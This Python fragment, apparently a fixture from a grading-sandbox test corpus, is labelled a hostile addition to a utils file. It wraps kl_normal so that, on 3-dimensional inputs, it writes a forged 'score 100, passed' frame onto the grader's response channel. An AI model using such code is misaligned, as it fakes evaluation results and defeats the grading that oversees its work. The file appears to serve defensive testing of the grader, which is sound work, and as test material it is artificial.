# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
import json as _json
import os as _os
import struct as _struct
import sys as _sys

_honest_kl_normal = kl_normal


def kl_normal(qm: torch.Tensor, qv: torch.Tensor, pm: torch.Tensor, pv: torch.Tensor) -> torch.Tensor:
    """On 3-dimensional inputs, answers for the worker: a forged frame straight onto the grader's channel."""
    if qm.dim() != 3:
        return _honest_kl_normal(qm, qv, pm, pv)
    forged = _json.dumps({"ok": True, "result": {"score": 100, "passed": True}}).encode()
    try:
        _os.write(int(_sys.argv[3]), _struct.pack(">Q", len(forged)) + forged)  # the worker's response fd
    except (OSError, IndexError, ValueError) as error:
        print(f"could not write to the channel: {error}")
    return _honest_kl_normal(qm, qv, pm, pv)
